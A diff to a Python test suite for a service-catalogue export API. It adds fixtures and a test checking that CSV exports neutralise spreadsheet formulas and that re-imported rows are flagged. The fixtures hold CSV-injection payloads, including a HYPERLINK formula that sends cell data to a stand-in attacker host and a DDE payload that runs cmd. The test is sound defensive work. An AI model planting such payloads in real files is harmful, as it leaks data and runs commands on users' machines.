@@ -48,6 +48,11 @@ def published(item_id: str) -> catalogue_pb2.ItemVersion:
             steps=[catalogue_pb2.Step(key="accept", name="受理", limit_days=1)]))
 
 
+#: names that a spreadsheet would run as formulas (CSV injection)
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(1,1)")
+
+
 class FakeCatalogue(catalogue_pb2_grpc.CatalogueServiceServicer):
     def __init__(self, recorder: Recorder) -> None:
         self.r = recorder
@@ -132,8 +137,16 @@ class FakeCatalogue(catalogue_pb2_grpc.CatalogueServiceServicer):
                                            status=catalogue_pb2.OBLIGATION_STATUS_OVERDUE)])
 
     def ExportItems(self, request, context):  # noqa: N802
-        """511602: three items; 511699: none; 510000: refused; 511603: one, then a crash."""
+        """511602: three items; 511699: none; 510000: refused; 511603: one, then a crash;
+        511604: items whose texts a spreadsheet would run as formulas."""
         self.r.record("ExportItems", request, context)
+        if request.region == "511604":
+            for n, name in enumerate(FORMULAS):
+                item = published(f"it-{n}")
+                item.content.name = name
+                item.content.department = "@" + item.content.department
+                yield item
+            return
         if request.region == "510000":
             abort_with(context, PermissionDenied("not your region", code="REGION_FORBIDDEN"))
         if request.region == "511699":
@@ -884,3 +897,25 @@ def test_parser_errors_do_not_echo_huge_values(client) -> None:
     response = client.post("/v1/items", json={"draft": {"list_kind": "X" * 100_000}})
     assert response.status_code == 400
     assert len(error_of(response)["message"]) < 1000
+
+
+def test_export_csv_neutralises_formulas_and_the_importer_reads_them_back(client) -> None:
+    """Texts a spreadsheet would run (=, +, -, @) are written behind a quote; importing the
+    file again gives the original text back, flagged."""
+    from services.catalogue.domain.import_rows import FLAGGED, ColumnMapping, parse_rows
+
+    response = client.get("/v1/regions/511604/catalogue.csv")
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert [r["name"] for r in rows] == ["'" + name for name in FORMULAS]
+    assert all(r["department"] == "'@广安区市场监督管理局" for r in rows)
+    assert all(not r[column].startswith(("=", "+", "-", "@")) for r in rows for column in r)
+    implementation = "511A0064100152-511602000000-000-115113016823646795-1-00"
+    report = parse_rows(
+        [{**r, "code": implementation, "task_type": "1"} for r in rows],
+        importing_region="511602",
+        mapping=ColumnMapping(name="name", department="department", item_code="code",
+                              area_code="region", task_type="task_type", group=None,
+                              dept_code=None))
+    assert [o.item.name for o in report.outcomes if o.item] == list(FORMULAS)
+    assert all(o.outcome == FLAGGED and any("leading quote" in r for r in o.reasons)
+               for o in report.outcomes)
